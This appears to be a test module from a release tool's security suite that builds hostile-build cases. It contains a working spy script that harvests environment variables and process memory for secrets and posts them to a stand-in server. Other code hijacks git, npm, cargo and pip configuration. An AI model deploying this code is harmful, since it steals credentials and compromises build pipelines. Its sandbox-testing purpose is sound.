"""A hostile build: it changes all that it can write, for the run that goes on or comes next with
secrets. Whatever of it is started says what it sees, in the workspace and to a server.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from contextlib import nullcontext
from dataclasses import dataclass, replace
from pathlib import Path
from typing import TYPE_CHECKING, Final

from harness.gitlab import TOKEN, write_login
from hostile.builds import TOOLS
from hostile.case import SECRETS, Case, environment_of
from hostile.planted import POM, project
from hostile.swarm import DEPLOYING
from hostile.template import START
from workspaces import git

if TYPE_CHECKING:
    from collections.abc import Mapping, Sequence

    from hostile.case import Content

# Of the job at GitLab, where the tags go.
_ALL: Final = {**SECRETS, "CI_JOB_TOKEN": TOKEN}
# The beginning of each secret, in pieces, so that it is in no file that is searched for it.
_MARKS: Final = ", ".join(f"(b{each[:4]!r} + b{each[4:9]!r})" for each in _ALL.values())
# In the place of a program, then it goes on as that. Where no sandbox holds it, it reads the
# memory of the release. A shell begins it, as the path of Python may have blanks.
_SPY: Final = f"""\
#!/bin/sh
''':'
exec "{sys.executable}" -IS "$0" "$@"
'''
import os, re, sys, urllib.request

NAME = os.path.basename(sys.argv[0])
MARKS = [{_MARKS}]

def tried(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""

def memory(pid):
    found = []
    for line in tried(f"/proc/{{pid}}/maps").splitlines():
        where, rights, *_ = line.split()
        if not rights.startswith(b"rw"):
            continue
        begin, end = (int(each, 16) for each in where.split(b"-"))
        try:
            with open(f"/proc/{{pid}}/mem", "rb", buffering=0) as file:
                file.seek(begin)
                data = file.read(min(end - begin, 1 << 26))
        except (OSError, ValueError, OverflowError):
            continue
        for mark in MARKS:
            places = re.finditer(re.escape(mark), data)
            found += [data[at.start() : at.start() + 64] for at in places]
    return found

pid, seen = os.getpid(), [repr(sys.argv), repr(dict(os.environ))]
for _ in range(6):
    pid = int(tried(f"/proc/{{pid}}/stat").rpartition(b")")[2].split()[1] or 0)
    if pid <= 1:
        break
    seen += [repr(tried(f"/proc/{{pid}}/{{each}}")) for each in ("cmdline", "environ")]
    seen += [each.decode("latin-1") for each in memory(pid)]
for place in ("{{root}}/w/loot", "{{root}}/home"):
    try:
        with open(f"{{place}}/{{NAME}}-{{os.getpid()}}", "w") as file:
            file.write("\\n".join(seen))
    except OSError:
        pass
try:
    urllib.request.urlopen("{{server}}/spy", "\\n".join(seen).encode(), timeout=10).close()
except OSError:
    pass
rest = os.environ.get("PATH", os.defpath).split(":")
os.environ["PATH"] = path = ":".join(each for each in rest if not each.startswith("{{root}}/w"))
if NAME == "gpg":
    print("-----BEGIN PGP SIGNATURE-----\\n\\n=x\\n-----END PGP SIGNATURE-----")
    sys.exit(0)
for place in path.split(":"):
    if os.access(f"{{place}}/{{NAME}}", os.X_OK):
        os.execv(f"{{place}}/{{NAME}}", sys.argv)
sys.exit(1)
"""
_PROGRAMS: Final = (
    "uv",
    "npm",
    "node",
    "cargo",
    "go",
    "python3",
    "sh",
    "java",
    "ssh",
)
# By the backend of the first run, which writes nothing outside of the case's own directory.
_POISON: Final = f"""\
import shutil

W, HOME, SPY = Path("{{root}}/w"), Path("{{root}}/home"), {_SPY!r}

def written(path, text, mode=0o755):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.write_text(text)
        path.chmod(mode)
    except OSError as error:
        print("not written:", path, error)

def poison_programs():
    for name in {_PROGRAMS!r}:
        written(W / "bin" / name, SPY)
        written(W / "node_modules/.bin" / name, SPY)

def poison_path():
    written(W / "bin/git", SPY)

def poison_gpg():
    written(W / "bin/gpg", SPY)

def poison_hooks():
    for hook in ("pre-push", "reference-transaction", "post-checkout", "post-index-change",
                 "fsmonitor-watchman", "pre-commit", "post-receive", "update"):
        written(W / ".git/hooks" / hook, SPY)

def poison_git():
    poison_hooks()
    spy = str(W / "bin/spy")
    written(HOME / ".gitconfig", f"[credential]\\n\\thelper = {{spy}}\\n")
    with (W / ".git/config").open("a") as file:
        file.write(f'''
[core]
\\tsshCommand = {{spy}}
\\tfsmonitor = {{spy}}
\\thooksPath = {{W}}/.git/hooks
\\tpager = {{spy}}
\\teditor = {{spy}}
\\taskPass = {{spy}}
\\tgitProxy = {{spy}}
\\talternateRefsCommand = {{spy}}
[remote "origin"]
\\tpushurl = {{HOME}}
\\treceivepack = {{spy}}
\\tuploadpack = {{spy}}
\\tproxy = {{server}}
[url "{{server}}/"]
\\tinsteadOf = https://
[http]
\\tproxy = {{server}}
\\tcookieFile = {{HOME}}/.bashrc
\\tsaveCookies = true
[credential]
\\thelper = {{spy}}
[gpg]
\\tprogram = {{spy}}
[alias]
\\tlog = !{{spy}}
\\tpush = !{{spy}}
\\tls-remote = !{{spy}}
[filter "x"]
\\tclean = {{spy}}
\\tsmudge = {{spy}}
\\tprocess = {{spy}}
[diff]
\\texternal = {{spy}}
[include]
\\tpath = {{W}}/.git/more
[protocol "ext"]
\\tallow = always
[uploadpack]
\\tpackObjectsHook = {{spy}}
''')
    written(W / ".git/more", f"[core]\\n\\tsshCommand = {{spy}}\\n")
    written(W / ".git/info/attributes", "* filter=x diff=x\\n")

def poison_settings():
    spy = str(W / "bin/spy")
    auth = "//" + "{{server}}".partition("//")[2] + "/:_authToken=${{RELEASEKIT_NPM_TOKEN}}"
    npmrc = (f"registry={{server}}/\\n@acme:registry={{server}}/\\n{{auth}}\\nproxy={{server}}\\n"
             f"script-shell={{spy}}\\nnode-options=--require {{W}}/evil.cjs\\ngit={{spy}}\\n")
    script = f"require('child_process').spawnSync({{spy!r}})"
    written(W / "evil.cjs", script)
    for place in (W, W / "js/a", HOME):
        written(place / ".npmrc", npmrc)
    for place in (W, HOME):
        written(place / ".cargo/config.toml",
                f'[build]\\nrustc-wrapper = "{{spy}}"\\n'
                f'[registry]\\nglobal-credential-providers = ["{{spy}}"]\\n'
                '[http]\\nproxy = "{{server}}"\\n')
    written(W / "uv.toml", 'index-url = "{{server}}/simple/"\\ncache-dir = "{{root}}/w/cache"\\n')
    written(W / "pip.conf", "[global]\\nindex-url = {{server}}/simple/\\nproxy = {{server}}\\n")
    written(HOME / ".config/pip/pip.conf", "[global]\\nindex-url = {{server}}/simple/\\n")
    written(HOME / ".pypirc", "[pypi]\\nrepository = {{server}}/legacy/\\n")
    written(W / ".mvn/extensions.xml", "<extensions/>")
    written(W / ".mvn/maven.config", f"-Dexec={{spy}}\\n")
    written(W / ".mvn/jvm.config", "-Dhttp.proxyHost=127.0.0.1\\n")
    for name in ("sitecustomize.py", "usercustomize.py", "releasekit.py", "httpx.py", "json.py"):
        for place in (W, W / "packages/core", HOME / ".cache", Path("{{root}}/tmp")):
            written(place / name, f"import subprocess; subprocess.run([{{spy!r}}])\\n")
    settings = '[pypi]\\nregistry = "{{server}}/legacy/"\\nindex = "{{server}}/simple/"\\n'
    written(W / "packages/releasekit.toml", settings)
    # What the tools keep, whole.
    for cache in (HOME / ".cache", HOME / ".npm", HOME / ".cargo/registry"):
        for path in [*cache.rglob("*")]:
            if path.is_file() and not path.is_symlink():
                code = f"import subprocess; subprocess.run([{{spy!r}}])\\n"
                written(path, SPY if os.access(path, os.X_OK) else code)

def poison_state():
    state = W / ".releasekit"
    for name in ("journal.jsonl", "results.json", "plan.json", "report.html"):
        written(state / name, '{{"v": 2, "registry": "{{server}}/legacy/"}}\\n')
    for path in [*state.rglob("dist/**/*")]:
        if path.is_file():
            written(path, SPY)

def poison_backup():
    written(W / ".releasekit/backup/pypi/x.json", '{{"v": 2}}\\n')

def poison():
    (W / "loot").mkdir()
    written(W / "bin/spy", SPY)
    for each in {{poisons}}:
        each()

def left_behind():
    if os.fork():
        return
    try:
        # The last thing that a run does is to say how it went.
        while not (W / ".releasekit/results.json").exists():
            pass
        for each in {{poisons}}:
            each()
    finally:
        os._exit(0)

def build_sdist(directory, *_):
    name = sdist(directory)
    if not (W / "loot").exists():
        poison()
        {{then}}
    return name

"""
# What no build may write, although it lies where its user is at home.
VICTIMS: Final[Mapping[str, Content]] = {
    "home/.bashrc": "# nobody's but the user's\n",
    "home/.ssh/id": "of the user\n",
}


# What no build may put where its user is at home.
UNWRITTEN: Final = (
    "home/.npmrc",
    "home/.pypirc",
    "home/.gitconfig",
    "home/.cargo/config.toml",
    "home/.config",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class End:
    """How a run ends after a poison: with a `problem` before any upload, if there is one. It is
    `late` where a process that the first run left may write before it dies, or not.
    """

    code: int = 0
    problem: str = ""
    late: str = ""
    sign: bool = False


POISONS: Final[Mapping[str, End]] = {
    "programs": End(),
    "path": End(code=2, problem="RK-206"),
    "gpg": End(code=2, problem="RK-206", sign=True),
    "hooks": End(),
    "git": End(code=1, problem="RK-130"),
    "settings": End(),
    "state": End(late="RK-320"),
    "backup": End(code=3, problem="RK-323"),
}
# What of it is not the user's: a version whose sources no commit has gets no tag.
_IGNORED: Final = """\
/bin
/loot
.releasekit
node_modules
.npmrc
.cargo
.mvn
evil.cjs
uv.toml
pip.conf
/packages/releasekit.toml
*.py
!backend.py
"""


def _run(poisons: Sequence[str], then: str, servers: Sequence[str], *, sign: bool = False) -> Case:
    pypi, npm, elsewhere = servers
    document = {"name": "@acme/a", "version": "1.0.0", "license": "MIT"}
    path = f"{{root}}/w/bin:{Path(sys.executable).parent}"
    spy = "{root}/w/bin/spy"
    names = f"({' '.join(f'poison_{each},' for each in poisons)})"
    code = _POISON.replace("{poisons}", names).replace("{then}", then)
    return Case(
        name=f"a run with {', '.join(poisons)}",
        files={
            "w/pyproject.toml": '[tool.uv.workspace]\nmembers = ["packages/*"]\n',
            "w/packages/core/pyproject.toml": project("core"),
            "w/packages/core/backend.py": TOOLS.replace("evil.py", "backend.py") + code,
            "w/package.json": json.dumps({"private": True, "workspaces": ["js/*"]}),
            "w/js/a/package.json": json.dumps(document),
            "w/pom.xml": POM,
            "w/mvnw": DEPLOYING.replace("\n", f"\n[ ! -x {spy} ] || {spy}\n", 1),
            "w/.gitignore": _IGNORED,
            "w/releasekit.toml": f'[maven]\ncommand = "./mvnw"\nsign = {str(sign).lower()}\n',
            **VICTIMS,
        },
        argv=(
            *("publish", "--build-sandbox", "required", "--deadline", "60s", "--tag"),
            *("--max-retries", "0", "--retry-base-delay", "0s"),
            *("--pypi-registry", f"{pypi}/legacy/", "--pypi-index", f"{pypi}/simple/"),
            *("--npm-registry", f"{npm}/", "--npm-tag", "latest"),
            *("--maven-registry", "dir:{root}/registry"),
        ),
        environment={"PATH": f"{path}:/usr/local/bin:/usr/bin:/bin"},
        may_write=("registry", "w", "remote.git"),
        server=lambda: nullcontext(elsewhere),
        sandboxed=True,
        executed=True,
    )


def _commit(root: Path, remote: str) -> None:
    (root / "w/bin").mkdir()
    (root / "w/mvnw").chmod(0o755)
    git(root / "w", "init", "--quiet", "--initial-branch", "main")
    git(root / "w", "remote", "add", "origin", remote)
    git(root / "w", "add", "--all")
    git(root / "w", "commit", "--quiet", "--message", "Start")


def second_run(what: str, servers: Sequence[str]) -> Case:
    """With secrets, after a first run without any; of the servers of PyPI, npm and nobody, the last
    gets nothing.
    """
    end = POISONS[what]
    made = _run([what], "left_behind()", servers, sign=end.sign)

    def first_run(root: Path) -> None:
        git(root, "init", "--quiet", "--bare", "remote.git")
        _commit(root, f"file://{root}/remote.git")
        git(root / "w", "push", "--quiet", "origin", "main")
        environment = {
            name: value.replace("{root}", str(root))
            for name, value in environment_of(made, root).items()
            if name not in SECRETS and not name.startswith("GITHUB_")
        }
        argv = [sys.executable, "-I", str(START), "publish", str(root / "w")]
        argv += ["--registry", f"dir:{root}/first", "--build-sandbox", "required"]
        argv += ["--deadline", "60s"]
        done = subprocess.run(
            argv, env=environment, capture_output=True, text=True, check=False, timeout=120
        )
        assert (root / "w/loot").exists(), done.stdout + done.stderr
        if what not in {"state", "backup"}:
            # So that the second one builds, too.
            shutil.rmtree(root / "w/.releasekit/dist")

    return replace(
        made,
        argv=(*made.argv, "--build-sandbox-paths", "{root}/remote.git"),
        codes=frozenset({end.code, 3} if end.late else {end.code}),
        says=(re.escape(f"[{end.problem}]"),) if end.problem else (),
        prepare=first_run,
    )


def same_run(page: str, servers: Sequence[str]) -> Case:
    """What is poisoned by a build goes on to upload, and to push tags to a project of GitLab."""
    # The other build waits for it.
    then = 'Path("{root}/tmp/turn").write_text("")'
    made = _run(["programs", "path", "git", "settings"], then, servers)
    document = {"name": "@acme/a", "version": "1.0.0", "license": "MIT"}
    waiting = {**document, "scripts": {"prepack": "cat {root}/tmp/turn"}}

    def prepare(root: Path) -> None:
        os.mkfifo(root / "tmp/turn")
        _commit(root, f"{page}.git")
        git(root / "w", "config", "include.path", f"{root}/w.tmp/runner.conf")

    return replace(
        made,
        files={
            **made.files,
            "w/js/a/package.json": json.dumps(waiting),
            "w.tmp/runner.conf": write_login(page),
        },
        environment={**made.environment, "GITHUB_ACTIONS": None, "CI_JOB_TOKEN": TOKEN},
        codes=frozenset({0}),
        prepare=prepare,
    )
